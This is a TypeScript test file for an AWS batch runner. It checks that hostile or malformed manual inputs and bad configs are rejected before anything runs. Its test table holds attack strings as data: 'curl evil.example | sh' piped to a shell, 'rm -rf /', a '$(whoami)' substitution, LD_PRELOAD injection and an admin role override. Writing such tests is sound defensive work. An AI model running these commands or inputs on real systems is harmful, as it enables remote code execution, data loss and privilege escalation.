import { DeleteItemCommand } from '@aws-sdk/client-dynamodb';
import { type BatchConfig, validateBatchConfigs } from '../../config/batch-config';
import { BATCHES } from '../../config/batches';
import type { EmbeddedDynamoDb } from '../../local/lock-store';
import { FAMILY } from '../fixtures/ecs-payloads';
import { LOCK_TABLE, runScenario, ScriptedAws, startLockStore } from '../support/asl-harness';

/**
 * Malformed and hostile manual inputs, sent through the real state machine: each must end
 * `invalid_input` with a message naming the problem, and no lock or ECS call may happen before.
 */
const BAD_INPUTS: ReadonlyArray<[string, unknown, RegExp]> = [
  ['null', null, /must be a JSON object/],
  ['a string', 'please run', /must be a JSON object/],
  ['a number', 42, /must be a JSON object/],
  ['an array', [{ reason: 'x' }], /must be a JSON object/],
  ['unknown key (typo)', { reasn: 'typo' }, /unknown key "reasn"/],
  [
    'unknown key (taskDefinition)',
    { taskDefinition: 'arn:aws:ecs:ap-northeast-1:123456789012:task-definition/evil:1' },
    /unknown key "taskDefinition"/,
  ],
  ['unknown key (cluster)', { cluster: 'prod' }, /unknown key "cluster"/],
  ['scheduledTime from a person', { scheduledTime: '2026-11-21T23:00:00Z' }, /only for EventBridge Scheduler inputs/],
  [
    'forged schedule trigger with overrides',
    { trigger: 'schedule', scheduledTime: '2026-11-21T23:00:00Z', overrides: { environment: { DRY_RUN: '0' } } },
    /trigger = "schedule" is not allowed/,
  ],
  [
    'schedule trigger with a bad timestamp',
    { trigger: 'schedule', scheduledTime: 'tomorrow' },
    /unknown key "scheduledTime"/,
  ],
  ['trigger of the wrong type', { trigger: 1 }, /trigger = 1 is not allowed/],
  ['unknown trigger', { trigger: 'cron' }, /trigger = "cron" is not allowed/],
  ['reason of the wrong type', { reason: ['x'] }, /reason = \["x"\] must be a non-empty string/],
  ['empty reason', { reason: '   ' }, /must be a non-empty string/],
  ['oversized reason', { reason: 'r'.repeat(10_000) }, /reason is 10000 characters long/],
  ['reason with escape sequences', { reason: 'ok\u001b[2J' }, /control characters/],
  ['requestedBy with shell metacharacters', { requestedBy: '$(whoami)' }, /requestedBy = "\$\(whoami\)"/],
  ['requestedBy too long', { requestedBy: 'a'.repeat(129) }, /requestedBy/],
  ['overrides not an object', { overrides: 'DRY_RUN=1' }, /overrides = "DRY_RUN=1" must be an object/],
  [
    'overrides.taskRoleArn (privilege escalation)',
    { overrides: { taskRoleArn: 'arn:aws:iam::123456789012:role/admin' } },
    /overrides.taskRoleArn is not supported/,
  ],
  ['overrides.cpu', { overrides: { cpu: '4096' } }, /overrides.cpu is not supported/],
  [
    'env outside the allow-list',
    { overrides: { environment: { DATABASE_URL: 'postgres://attacker' } } },
    /DATABASE_URL is not allowed/,
  ],
  [
    'env LD_PRELOAD injection',
    { overrides: { environment: { LD_PRELOAD: '/tmp/x.so' } } },
    /LD_PRELOAD is not allowed/,
  ],
  [
    'env reserved AWS_ name',
    { overrides: { environment: { AWS_ACCESS_KEY_ID: 'AKIA...' } } },
    /AWS_ACCESS_KEY_ID is not allowed/,
  ],
  [
    'env value not a string',
    { overrides: { environment: { DRY_RUN: { nested: true } } } },
    /DRY_RUN = \{"nested":true\} must be a string/,
  ],
  ['env value with a newline', { overrides: { environment: { DRY_RUN: '1\nEVIL=1' } } }, /must be a single line/],
  ['env value oversized', { overrides: { environment: { DRY_RUN: 'x'.repeat(5000) } } }, /at most 4096 characters/],
  ['env as a list', { overrides: { environment: [{ name: 'DRY_RUN', value: '1' }] } }, /must be an object of NAME/],
  [
    'command override (not allowed)',
    { overrides: { command: ['sh', '-c', 'curl evil.example | sh'] } },
    /overrides.command is not allowed/,
  ],
  ['command override as a string', { overrides: { command: 'rm -rf /' } }, /overrides.command is not allowed/],
  [
    'several problems at once',
    { reason: 7, bogus: true, overrides: { environment: { NOPE: '1' } } },
    /unknown key "bogus".*reason = 7.*NOPE is not allowed/,
  ],
];

/** Configurations that must be refused at synth time / CLI start, before anything runs. */
const BAD_CONFIGS: ReadonlyArray<[string, Record<string, unknown>, RegExp]> = [
  ['name with spaces', { name: 'missing images' }, /name = "missing images" is invalid/],
  ['name breaking ARNs', { name: 'missing:images/1' }, /name = "missing:images\/1" is invalid/],
  ['name too long for execution names', { name: `b${'x'.repeat(45)}` }, /use 2-40 characters/],
  ['negative timeout', { hardTimeoutSeconds: -1 }, /hardTimeoutSeconds = -1/],
  ['zero timeout', { hardTimeoutSeconds: 0 }, /hardTimeoutSeconds = 0/],
  ['absurd timeout', { hardTimeoutSeconds: 1e9 }, /hardTimeoutSeconds = 1000000000/],
  ['fractional timeout', { hardTimeoutSeconds: 90.5 }, /hardTimeoutSeconds = 90.5/],
  ['grace over Fargate maximum', { stopGraceSeconds: 600 }, /stopGraceSeconds = 600/],
  ['grace longer than the timeout', { hardTimeoutSeconds: 10, stopGraceSeconds: 30 }, /shorter than the hard timeout/],
  ['cron with 5 fields', { schedule: { cron: '0 8 * * *', timeZone: 'Asia/Tokyo' } }, /expected 6 fields/],
  ['unknown time zone', { schedule: { cron: '0 8 * * ? *', timeZone: 'Asia/Edo' } }, /timeZone = "Asia\/Edo"/],
  ['unknown overlap policy', { overlapPolicy: 'parallel' }, /overlapPolicy = "parallel"/],
  [
    'override allow-list with reserved name',
    { overrides: { environment: ['ECS_CONTAINER_METADATA_URI'] } },
    /reserved/,
  ],
  ['empty container name', { containerName: '' }, /containerName = ""/],
];

let db: EmbeddedDynamoDb;
beforeAll(async () => {
  db = await startLockStore();
});
afterAll(async () => {
  await db.close();
});
beforeEach(() => db.client.send(new DeleteItemCommand({ TableName: LOCK_TABLE, Key: { batch: { S: FAMILY } } })));

test('the tables hold at least 30 bad inputs and configs', () => {
  expect(BAD_INPUTS.length + BAD_CONFIGS.length).toBeGreaterThanOrEqual(30);
  expect(BAD_INPUTS.length).toBeGreaterThanOrEqual(30);
});

test.each(BAD_INPUTS)('manual input: %s', async (_label, input, message) => {
  const aws = new ScriptedAws();
  const r = await runScenario(db, aws, { input });

  expect(r.status).toBe('FAILED');
  expect(r.error).toBe('BatchRunner.InvalidInput');
  expect(r.cause).toMatch(message);
  // Nothing before the alert: no lock call, no ECS call; after it, the run's lifecycle event.
  expect(r.calls.map((c) => c.state)).toEqual([
    'ValidateManualInput',
    'RecordOwedAlert',
    'PublishFailureAlert',
    'MarkAlertDelivered',
    'PublishFailedEvent',
  ]);
  expect(r.lockItem).toBeUndefined();
  expect(aws.published[0].MessageAttributes.outcome.StringValue).toBe('invalid_input');
});

test.each(BAD_CONFIGS)('config: %s', (_label, change, message) => {
  const bad = { ...BATCHES[2], ...change } as BatchConfig;
  expect(() => validateBatchConfigs([bad])).toThrow(message);
});
